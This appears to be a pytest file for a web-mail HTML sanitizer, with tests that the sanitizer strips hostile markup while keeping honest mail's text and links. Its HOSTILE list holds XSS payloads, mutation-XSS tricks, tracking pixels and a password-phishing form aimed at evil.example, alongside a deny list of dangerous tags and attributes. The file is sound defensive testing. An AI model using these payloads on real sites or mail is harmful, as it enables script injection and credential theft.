"""Hostile HTML of mails is shown harmless or not at all (reliability §5)."""

import re
from html.parser import HTMLParser

import pytest

from mailroute.web.mail_html import harmless

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.png'>",
    "<img src=//evil.example/pixel.png>",
    "<img srcset='https://evil.example/a 2x' src=cid:known>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='/sign-out'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/desk/tickets/10001'>x</a>",
    "<a href='https://ok.example' target=_self ping='https://evil.example'>x</a>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='https://evil.example'></object><embed src='https://evil.example'>",
    "<form action='https://evil.example'><input name=password><button>Anmelden</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example)}</style>",
    "<p style='background:url(https://evil.example);position:fixed'>x</p>",
    "<table background='https://evil.example/x.png'><tr><td background='https://evil.example'>x</td></tr></table>",
    "<body onload=alert(1) background='https://evil.example'>x</body>",
    "<div id=content class=card name=csrf>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->x",
    "<video poster='https://evil.example'><source src='https://evil.example'></video>",
    "</body></html><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
]
ALLOWED_LINK = re.compile(r"^(https?://|mailto:|tel:)")


class Seen(HTMLParser):
    """What a browser would find in it."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def seen(source: str) -> Seen:
    found = Seen()
    found.feed(harmless(source, {"known": "/files/1"}.get))
    return found


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_runs_and_nothing_is_fetched_from_elsewhere(source: str) -> None:
    found = seen(source)

    dangerous = "script style svg math iframe object embed form input button meta base link video source template noscript"
    assert not found.tags & set(dangerous.split())
    for tag, name, value in found.attributes:
        assert not name.startswith("on")
        assert name not in ("style", "id", "class", "name", "background", "srcset", "ping", "poster")
        if name == "src":
            assert (tag, value) == ("img", "/files/1")
        if name == "href":
            assert ALLOWED_LINK.match(value)
        if name == "target":
            assert value == "_blank"


def test_the_words_and_the_links_of_an_honest_mail_stay() -> None:
    source = (
        "<div>Guten Tag,<br><b>der Abfluss</b> ist <a href='https://foto.example/1'>hier</a> zu sehen."
        "<table><tr><td colspan=2>WE&nbsp;03</td></tr></table><img src='cid:Known' alt='Foto'></div>"
    )

    assert harmless(source, {"known": "/files/1"}.get) == (
        '<div>Guten Tag,<br><b>der Abfluss</b> ist <a href="https://foto.example/1" target="_blank" '
        'rel="noopener noreferrer nofollow">hier</a> zu sehen.'
        '<table><tbody><tr><td colspan="2">WE&nbsp;03</td></tr></tbody></table>'
        '<img src="/files/1" alt="Foto"></div>'
    )


@pytest.mark.long
def test_a_very_deep_mail_is_no_trouble() -> None:
    assert "x" in harmless("<div>" * 20_000 + "x", {}.get)
